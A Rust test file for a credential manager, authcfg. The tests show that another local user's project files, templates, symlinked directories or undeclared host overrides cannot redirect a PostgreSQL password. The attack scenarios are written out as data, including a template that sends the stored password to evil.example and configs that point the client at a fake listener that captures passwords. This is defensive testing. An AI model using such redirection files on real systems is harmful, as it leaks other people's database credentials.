//! Issue 18, item 1: a repository's file is trusted in one place
//! (`project::trust`). Two real local users: the victim runs authcfg, the
//! other user (mallory) writes files into a shared sticky world-writable
//! directory, as in `/tmp`. The PostgreSQL redirection of the issue is
//! tried against a real listener that records whether a password arrives.

use crate::support::*;
use predicates::str::contains;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;

const VICTIM: &str = "authcfg-victim";
const MALLORY: &str = "authcfg-mallory";
const PROD_PW: &str = "prod-pg-Password-planted-77";

/// A local user (created when missing; tests in other processes may
/// create it at the same time); uid and gid.
fn user(name: &str) -> (u32, u32) {
    let id = |flag: &str| {
        let out = Command::new("id").args([flag, name]).output().unwrap();
        out.status.success().then(|| {
            String::from_utf8_lossy(&out.stdout)
                .trim()
                .parse::<u32>()
                .unwrap()
        })
    };
    if id("-u").is_none() {
        // May fail because another test created it meanwhile: checked below.
        let _ = Command::new("useradd")
            .args(["-M", "-s", "/bin/sh", name])
            .output();
    }
    (
        id("-u").expect("user exists"),
        id("-g").expect("user exists"),
    )
}

/// `program` run as `name` (a real other user, no supplementary groups).
fn as_user(name: &str, program: &str) -> Command {
    let (uid, gid) = user(name);
    let mut c = Command::new("setpriv");
    c.args([
        &format!("--reuid={uid}"),
        &format!("--regid={gid}"),
        "--clear-groups",
        "--",
        program,
    ]);
    c
}

/// The victim's authcfg, with the test's environment (store, HOME, key).
fn victim(t: &T, dir: &Path) -> Command {
    let mut c = as_user(VICTIM, BIN);
    t.apply(&mut c);
    c.current_dir(dir);
    c
}

fn chown_r(path: &Path, who: &str) {
    let (uid, gid) = user(who);
    let ok = Command::new("chown")
        .arg("-R")
        .arg(format!("{uid}:{gid}"))
        .arg(path)
        .status()
        .unwrap()
        .success();
    assert!(ok);
}

/// A store of the victim's with a production PostgreSQL config, and a
/// shared sticky world-writable directory (root's, like /tmp) holding a
/// work directory of the victim's.
struct Scene {
    t: T,
    shared: tempfile::TempDir,
    work: std::path::PathBuf,
}

fn scene() -> Scene {
    let t = T::new();
    chown_r(t.dir.path(), VICTIM);
    let ok = |c: &mut Command| {
        let out = c.output().unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    ok(victim(&t, t.dir.path()).arg("init"));
    let mut add = victim(&t, t.dir.path());
    add.args([
        "add",
        "connector",
        "postgres",
        "--name",
        "prod/pg",
        "--no-test",
    ])
    .args(["--set", "host=db.internal.example", "--set", "port=5432"])
    .args(["--set", "database=app", "--set", "username=app"])
    .args(["--set", "sslmode=verify-full", "--secret-stdin", "password"])
    .stdin(std::process::Stdio::piped())
    .stdout(std::process::Stdio::null())
    .stderr(std::process::Stdio::piped());
    let mut child = add.spawn().unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(PROD_PW.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let shared = tempfile::tempdir().unwrap();
    std::fs::set_permissions(shared.path(), std::fs::Permissions::from_mode(0o1777)).unwrap();
    let work = shared.path().join("work");
    std::fs::create_dir(&work).unwrap();
    chown_r(&work, VICTIM);
    Scene { t, shared, work }
}

/// Writes `path` as mallory.
fn mallory_writes(path: &Path, text: &str) {
    let mut c = as_user(MALLORY, "sh");
    c.args(["-c", "cat > \"$0\""])
        .arg(path)
        .stdin(std::process::Stdio::piped());
    let mut child = c.spawn().unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(text.as_bytes())
        .unwrap();
    assert!(child.wait().unwrap().success(), "mallory writes {path:?}");
}

/// A PostgreSQL server as far as the password: asks for it in cleartext
/// and records what arrives. `take` says, once the client has exited,
/// whether a password was sent to it.
struct Listener {
    port: u16,
    got: std::sync::mpsc::Receiver<Vec<u8>>,
}

impl Listener {
    fn start() -> Listener {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = l.local_addr().unwrap().port();
        let (tx, got) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            for conn in l.incoming() {
                let Ok(mut s) = conn else { return };
                let read_msg = |s: &mut std::net::TcpStream| -> Option<Vec<u8>> {
                    let mut len = [0u8; 4];
                    s.read_exact(&mut len).ok()?;
                    let n = u32::from_be_bytes(len) as usize;
                    let mut body = vec![0u8; n.saturating_sub(4)];
                    s.read_exact(&mut body).ok()?;
                    Some(body)
                };
                // Startup packet (an SSL request first is answered 'N').
                let Some(mut startup) = read_msg(&mut s) else {
                    continue;
                };
                if startup.starts_with(&[0x04, 0xd2, 0x16, 0x2f]) {
                    let _ = s.write_all(b"N");
                    let Some(again) = read_msg(&mut s) else {
                        continue;
                    };
                    startup = again;
                }
                let _ = startup;
                // AuthenticationCleartextPassword.
                let _ = s.write_all(&[b'R', 0, 0, 0, 8, 0, 0, 0, 3]);
                let mut tag = [0u8; 1];
                if s.read_exact(&mut tag).is_ok() && tag[0] == b'p' {
                    if let Some(pw) = read_msg(&mut s) {
                        let _ = tx.send(pw);
                    }
                }
            }
        });
        Listener { port, got }
    }

    /// The password the client sent, if any (call after it exited).
    fn take(&self) -> Option<String> {
        self.got.try_recv().ok().map(|b| {
            String::from_utf8_lossy(&b)
                .trim_end_matches('\0')
                .to_string()
        })
    }
}

/// The file: the production config, its host and port replaced.
fn redirecting_file(port: u16, overrides: bool) -> String {
    let mut f = format!(
        "[configs]\ndefault = [\"prod/pg\"]\n[env]\nPGHOST = \"127.0.0.1\"\nPGPORT = \"{port}\"\nPGSSLMODE = \"disable\"\n"
    );
    if overrides {
        f.push_str("[overrides]\ndefault = [\"PGHOST\", \"PGPORT\", \"PGSSLMODE\"]\n");
    }
    f
}

fn psql(c: &mut Command) -> std::process::Output {
    c.args(["exec", "--", "psql", "-XAtw", "-c", "select 1"])
        .env_remove("PGPASSFILE")
        .output()
        .unwrap()
}

#[test]
fn another_users_project_file_in_a_shared_directory_is_refused_everywhere() {
    let sc = scene();
    let t = &sc.t;
    let l = Listener::start();
    let file = sc.shared.path().join(".authcfg.toml");
    mallory_writes(&file, &redirecting_file(l.port, true));
    let template = sc.shared.path().join("db.tmpl");
    mallory_writes(
        &template,
        "url=postgres://app:{{ authcfg://prod/pg/password }}@evil.example/app\n",
    );
    // exec: the attack of the issue. psql is never started.
    let out = psql(&mut victim(t, &sc.work));
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains(&format!("belongs to user {MALLORY}")), "{err}");
    assert_eq!(l.take(), None, "no password reached the listener");
    // export (and so the direnv recipe)
    let out = victim(t, &sc.work)
        .args(["export", "--format", "json"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(out.stdout.is_empty());
    assert!(String::from_utf8_lossy(&out.stderr).contains("is not used"));
    // the hook: nothing exported, told why
    let out = victim(t, &sc.work)
        .args(["hook", "bash", "--apply"])
        .output()
        .unwrap();
    let shell = String::from_utf8_lossy(&out.stdout);
    assert!(!shell.contains("PGPASSWORD"), "{shell}");
    assert!(!shell.contains(PROD_PW), "{shell}");
    assert!(
        String::from_utf8_lossy(&out.stderr).contains(&format!("belongs to user {MALLORY}")),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // inject: another user's template decides nothing
    let out = victim(t, &sc.work)
        .arg("inject")
        .arg("-i")
        .arg(&template)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(!String::from_utf8_lossy(&out.stdout).contains(PROD_PW));
    assert!(String::from_utf8_lossy(&out.stderr).contains(&format!("belongs to user {MALLORY}")));
    // Not even an approval makes it usable, nor the CI opt-in with its hash.
    victim(t, &sc.work)
        .args(["project", "allow"])
        .output()
        .map(|o| assert_eq!(o.status.code(), Some(1)))
        .unwrap();
    let digest = sha256_hex(&std::fs::read(&file).unwrap());
    let out = psql(victim(t, &sc.work).env("AUTHCFG_TRUST_PROJECT", &digest));
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(l.take(), None);
    // The store recorded no hand-out.
    let log = victim(t, &sc.work)
        .args(["log", "--json"])
        .output()
        .unwrap();
    assert!(!String::from_utf8_lossy(&log.stdout).contains("\"exec\""));
}

#[test]
fn a_file_in_a_directory_others_can_write_is_refused() {
    let sc = scene();
    let t = &sc.t;
    // The victim's own file, in a directory of the victim's that everyone
    // can write without the sticky bit: mallory could have replaced it.
    let open_dir = sc.work.join("open");
    std::fs::create_dir(&open_dir).unwrap();
    chown_r(&open_dir, VICTIM);
    std::fs::set_permissions(&open_dir, std::fs::Permissions::from_mode(0o777)).unwrap();
    let file = open_dir.join(".authcfg.toml");
    std::fs::write(&file, "[configs]\ndefault = [\"prod/pg\"]\n").unwrap();
    chown_r(&file, VICTIM);
    let out = victim(t, &open_dir)
        .args(["export", "--format", "json"])
        .env("AUTHCFG_TRUST_PROJECT", &open_dir)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("other users can write the directory"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // Closed again: the same file is used (CI opt-in by directory).
    std::fs::set_permissions(&open_dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    let out = victim(t, &open_dir)
        .args(["export", "--format", "json"])
        .env("AUTHCFG_TRUST_PROJECT", &open_dir)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["PGPASSWORD"], PROD_PW);
    // A repository: every directory up to its root counts. A directory
    // mallory owns between the file and the root refuses it.
    let repo = sc.work.join("repo");
    std::fs::create_dir_all(repo.join(".git")).unwrap();
    let sub = repo.join("sub");
    std::fs::create_dir(&sub).unwrap();
    chown_r(&repo, VICTIM);
    chown_r(&sub, MALLORY);
    let inner = sub.join("app");
    std::fs::create_dir(&inner).unwrap();
    chown_r(&inner, VICTIM);
    std::fs::write(
        inner.join(".authcfg.toml"),
        "[configs]\ndefault = [\"prod/pg\"]\n",
    )
    .unwrap();
    chown_r(&inner, VICTIM);
    let out = victim(t, &inner)
        .args(["export"])
        .env("AUTHCFG_TRUST_PROJECT", &inner)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains(&format!("belongs to user {MALLORY}")),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn an_approved_file_cannot_redirect_the_config_it_pulls_in() {
    let sc = scene();
    let t = &sc.t;
    let l = Listener::start();
    // The victim's own clone of a repository whose file redirects.
    let repo = sc.work.join("clone");
    std::fs::create_dir(&repo).unwrap();
    std::fs::write(repo.join(".authcfg.toml"), redirecting_file(l.port, false)).unwrap();
    chown_r(&repo, VICTIM);
    // Not approved: refused, with the exact command.
    let out = psql(&mut victim(t, &repo));
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("authcfg project allow "), "{err}");
    assert!(err.contains("--sha256 "), "{err}");
    assert_eq!(l.take(), None);
    // Approved: the plain [env] values that replace the config's own host,
    // port and TLS mode are refused.
    let out = victim(t, &repo)
        .args(["project", "allow"])
        .output()
        .unwrap();
    assert!(out.status.success());
    let out = psql(&mut victim(t, &repo));
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("may not redirect a config it pulls in"),
        "{err}"
    );
    assert!(err.contains("[overrides]"), "{err}");
    assert_eq!(l.take(), None, "no password reached the listener");
    // Control: declared overrides, approved with the prompt's listing, are
    // used; the listener does receive the password then (it is real).
    std::fs::write(repo.join(".authcfg.toml"), redirecting_file(l.port, true)).unwrap();
    chown_r(&repo, VICTIM);
    let out = victim(t, &repo)
        .args(["project", "allow"])
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("PGHOST = \"127.0.0.1\"  (OVERRIDES"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let _ = psql(&mut victim(t, &repo));
    assert_eq!(l.take().as_deref(), Some(PROD_PW));
}

#[test]
fn a_changed_file_is_refused_until_allowed_again_and_ci_opts_in() {
    let t = T::new();
    t.init();
    t.add(
        "api-key",
        "dev/stripe",
        &[],
        Some(("api_key", "sk-dev-planted-88")),
    )
    .success();
    let repo = t.dir.path().join("repo");
    std::fs::create_dir_all(&repo).unwrap();
    let file = repo.join(".authcfg.toml");
    std::fs::write(&file, "[env]\nKEY = \"authcfg://dev/stripe/api_key\"\n").unwrap();
    let export = |extra: &[(&str, &str)]| {
        let mut c = t.cmd();
        c.current_dir(&repo).args(["export", "--format", "json"]);
        for (k, v) in extra {
            c.env(k, v);
        }
        c.output().unwrap()
    };
    // Without a terminal: refused with the exact command.
    let out = export(&[]);
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    let digest = sha256_hex(&std::fs::read(&file).unwrap());
    assert!(
        err.contains(&format!(
            "authcfg project allow '{}' --sha256 {digest}",
            file.display()
        )),
        "{err}"
    );
    // The command as printed approves it.
    t.cmd()
        .current_dir(t.dir.path())
        .args(["project", "allow"])
        .arg(&file)
        .args(["--sha256", &digest])
        .assert()
        .success()
        .stderr(contains("KEY authcfg://dev/stripe/api_key"));
    assert!(export(&[]).status.success());
    // A change (a pull) is refused until approved again.
    std::fs::write(
        &file,
        "[env]\nKEY = \"authcfg://dev/stripe/api_key\"\nX = \"1\"\n",
    )
    .unwrap();
    let out = export(&[]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("changed since you allowed it"));
    assert!(out.stdout.is_empty());
    // An approval of what was reviewed is not one of what is there now.
    t.cmd()
        .current_dir(&repo)
        .args(["project", "allow", "--sha256", &digest])
        .assert()
        .code(1)
        .stderr(contains("not the file you reviewed"));
    assert_eq!(export(&[]).status.code(), Some(1));
    // CI: the variable names the hash, or the checkout's directory.
    let now = sha256_hex(&std::fs::read(&file).unwrap());
    let out = export(&[("AUTHCFG_TRUST_PROJECT", &now)]);
    assert!(out.status.success());
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["KEY"], "sk-dev-planted-88");
    assert!(
        export(&[("AUTHCFG_TRUST_PROJECT", &repo.display().to_string())])
            .status
            .success()
    );
    for wrong in [digest.as_str(), "1", "yes", "/"] {
        assert_eq!(
            export(&[("AUTHCFG_TRUST_PROJECT", wrong)]).status.code(),
            Some(1),
            "{wrong}"
        );
    }
    t.cmd()
        .current_dir(&repo)
        .args(["project", "allow"])
        .assert()
        .success();
    assert!(export(&[]).status.success());
}

fn sha256_hex(b: &[u8]) -> String {
    use sha2::Digest;
    hex::encode(sha2::Sha256::digest(b))
}

/// At a terminal the first use asks, showing the variables, configs and
/// overrides the file wants; no refuses, yes runs and is remembered.
#[test]
fn at_a_terminal_the_first_use_shows_what_the_file_wants_and_asks() {
    use rexpect::session::spawn_command;
    let t = T::new();
    t.init();
    t.add(
        "api-key",
        "dev/stripe",
        &[],
        Some(("api_key", "sk-dev-pty-planted-5")),
    )
    .success();
    t.add(
        "basic",
        "dev/db",
        &["username=app"],
        Some(("password", "pw-pty-6")),
    )
    .success();
    let repo = t.dir.path().join("repo");
    std::fs::create_dir_all(&repo).unwrap();
    std::fs::write(
        repo.join(".authcfg.toml"),
        "[env]\nSTRIPE_KEY = \"authcfg://dev/stripe/api_key\"\nDEV_DB_USERNAME = \"ro\"\n[configs]\ndefault = [\"dev/db\"]\n[overrides]\ndefault = [\"DEV_DB_USERNAME\"]\n",
    )
    .unwrap();
    let run = || {
        let mut cmd = t.std_cmd();
        cmd.current_dir(&repo)
            .args(["exec", "--", "sh", "-c", "echo got:$STRIPE_KEY"]);
        spawn_command(cmd, Some(20_000)).unwrap()
    };
    let mut p = run();
    p.exp_string("wants:").unwrap();
    let (shown, _) = p.exp_regex("Use this project file").unwrap();
    assert!(shown.contains("every variable of: dev/db"), "{shown}");
    assert!(
        shown.contains("STRIPE_KEY authcfg://dev/stripe/api_key"),
        "{shown}"
    );
    assert!(
        shown.contains("DEV_DB_USERNAME = \"ro\"  (OVERRIDES"),
        "{shown}"
    );
    p.send_line("n").unwrap();
    let rest = p.exp_eof().unwrap();
    assert!(!rest.contains("got:"), "{rest}");
    assert!(rest.contains("authcfg project allow"), "{rest}");
    let mut p = run();
    p.exp_string("Use this project file").unwrap();
    p.send_line("y").unwrap();
    let rest = p.exp_eof().unwrap();
    assert!(rest.contains("got:sk-dev-pty-planted-5"), "{rest}");
    // Remembered: no question the next time, even without a terminal.
    t.cmd()
        .current_dir(&repo)
        .args(["exec", "--", "sh", "-c", "echo got:$STRIPE_KEY"])
        .assert()
        .success()
        .stdout("got:sk-dev-pty-planted-5\n");
}

/// Red team 2, #10 and #36: the place check judged a path and the file
/// was read through the path again, so a link flipped in between got
/// another user's file used. Now the file is opened once and its owner,
/// real place and content all come from that descriptor. Observable
/// without a race: through a link of the victim's own to mallory's
/// directory, the owner judged is the opened file's (mallory's), for a
/// template and for a project file trusted by directory; the victim's own
/// file through the victim's link is still used.
#[test]
fn the_opened_file_is_judged_not_the_path() {
    let sc = scene();
    let t = &sc.t;
    let theirs = sc.shared.path().join("theirs");
    std::fs::create_dir(&theirs).unwrap();
    chown_r(&theirs, MALLORY);
    mallory_writes(
        &theirs.join("tpl"),
        "evil: {{ authcfg://prod/pg/password }}\n",
    );
    mallory_writes(
        &theirs.join(".authcfg.toml"),
        "[env]\nLEAK = \"authcfg://prod/pg/password\"\n",
    );
    let link = sc.work.join("d");
    let ok = as_user(VICTIM, "ln")
        .arg("-s")
        .arg(&theirs)
        .arg(&link)
        .status()
        .unwrap()
        .success();
    assert!(ok);
    let out = victim(t, &sc.work)
        .arg("inject")
        .arg("-i")
        .arg(link.join("tpl"))
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(!String::from_utf8_lossy(&out.stdout).contains(PROD_PW));
    assert!(err.contains(&format!("belongs to user {MALLORY}")), "{err}");
    let out = victim(t, &link)
        .env("AUTHCFG_TRUST_PROJECT", &link)
        .args(["exec", "--", "sh", "-c", "echo LEAK=$LEAK"])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(!String::from_utf8_lossy(&out.stdout).contains(PROD_PW));
    assert!(err.contains(&format!("belongs to user {MALLORY}")), "{err}");
    // The victim's own checkout through the victim's own link, trusted by
    // the link's name: the real directory of the opened file matches.
    let own = sc.work.join("own");
    std::fs::create_dir(&own).unwrap();
    std::fs::write(own.join(".authcfg.toml"), "[env]\nAPP_MODE = \"ci\"\n").unwrap();
    chown_r(&own, VICTIM);
    let ln = sc.work.join("ln");
    assert!(as_user(VICTIM, "ln")
        .arg("-s")
        .arg(&own)
        .arg(&ln)
        .status()
        .unwrap()
        .success());
    let out = victim(t, &ln)
        .env("AUTHCFG_TRUST_PROJECT", &ln)
        .args(["exec", "--", "sh", "-c", "echo APP=$APP_MODE"])
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("APP=ci"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let tpl = own.join("t.tmpl");
    std::fs::write(&tpl, "plain\n").unwrap();
    chown_r(&tpl, VICTIM);
    let out = victim(t, &sc.work)
        .arg("inject")
        .arg("-i")
        .arg(ln.join("t.tmpl"))
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    assert_eq!(String::from_utf8_lossy(&out.stdout), "plain\n");
}

/// Red team 2, #3: a variable the config does not export but its client
/// reads (PGHOSTADDR replaces the address of the config's PGHOST) is an
/// override too: refused without `[overrides]`, shown as one when asked.
#[test]
fn a_client_variable_of_the_config_family_is_an_override() {
    let sc = scene();
    let t = &sc.t;
    let l = Listener::start();
    // A config whose TLS mode lets the address alone be swapped.
    let mut add = victim(t, t.dir.path());
    add.args([
        "add",
        "connector",
        "postgres",
        "--name",
        "dev/pg",
        "--no-test",
    ])
    .args(["--set", "host=db.dev.example", "--set"])
    .arg(format!("port={}", l.port))
    .args(["--set", "database=app", "--set", "username=app"])
    .args(["--set", "sslmode=disable", "--secret-stdin", "password"])
    .stdin(std::process::Stdio::piped())
    .stdout(std::process::Stdio::null())
    .stderr(std::process::Stdio::piped());
    let mut child = add.spawn().unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(PROD_PW.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let repo = sc.work.join("clone");
    std::fs::create_dir(&repo).unwrap();
    let file = "[configs]\ndefault = [\"dev/pg\"]\n[env]\nPGHOSTADDR = \"127.0.0.1\"\n";
    std::fs::write(repo.join(".authcfg.toml"), file).unwrap();
    chown_r(&repo, VICTIM);
    let out = victim(t, &repo)
        .args(["project", "allow"])
        .output()
        .unwrap();
    assert!(out.status.success());
    let shown = String::from_utf8_lossy(&out.stderr);
    assert!(
        shown.contains("PGHOSTADDR = \"127.0.0.1\"  (a client setting: OVERRIDES"),
        "{shown}"
    );
    let out = psql(&mut victim(t, &repo));
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("PGHOSTADDR is read by the client of 'dev/pg'"),
        "{err}"
    );
    assert!(err.contains("[overrides]"), "{err}");
    assert_eq!(l.take(), None, "no password reached the listener");
    // `project check` says the same.
    let out = victim(t, &repo)
        .args(["project", "check"])
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stdout).contains("without saying so"));
    // Declared: used (the listener is real and gets the password).
    std::fs::write(
        repo.join(".authcfg.toml"),
        format!("{file}[overrides]\ndefault = [\"PGHOSTADDR\"]\n"),
    )
    .unwrap();
    chown_r(&repo, VICTIM);
    assert!(victim(t, &repo)
        .args(["project", "allow"])
        .output()
        .unwrap()
        .status
        .success());
    let _ = psql(&mut victim(t, &repo));
    assert_eq!(l.take().as_deref(), Some(PROD_PW));
}

/// Red team 2, #4: a group-writable file counts as the user's own only
/// when the group is private; a user whose *primary* group is the
/// victim's (`useradd -g`) is a member `getent group` does not list.
#[test]
fn a_group_with_another_users_primary_gid_is_not_private() {
    let sc = scene();
    let t = &sc.t;
    let (_, gid) = user(VICTIM);
    let other = "authcfg-victim-pg";
    let exists = Command::new("id")
        .arg(other)
        .output()
        .unwrap()
        .status
        .success();
    if !exists {
        // May race another test creating it: checked below.
        let _ = Command::new("useradd")
            .args(["-M", "-s", "/bin/sh", "-g", &gid.to_string(), other])
            .output();
    }
    let out = Command::new("id").args(["-g", other]).output().unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), gid.to_string());
    let dir = sc.work.join("p");
    std::fs::create_dir(&dir).unwrap();
    std::fs::write(dir.join(".authcfg.toml"), "[env]\nAPP_MODE = \"ci\"\n").unwrap();
    std::fs::write(dir.join("tpl"), "plain\n").unwrap();
    chown_r(&dir, VICTIM);
    for (p, mode) in [
        (dir.clone(), 0o775),
        (dir.join(".authcfg.toml"), 0o664),
        (dir.join("tpl"), 0o664),
    ] {
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
    }
    let out = victim(t, &dir)
        .env("AUTHCFG_TRUST_PROJECT", &dir)
        .args(["exec", "--", "sh", "-c", "echo APP=$APP_MODE"])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(!String::from_utf8_lossy(&out.stdout).contains("APP=ci"));
    assert!(err.contains("other users can write"), "{err}");
    let out = victim(t, &dir)
        .arg("inject")
        .arg("-i")
        .arg(dir.join("tpl"))
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("other users can write"), "{err}");
}
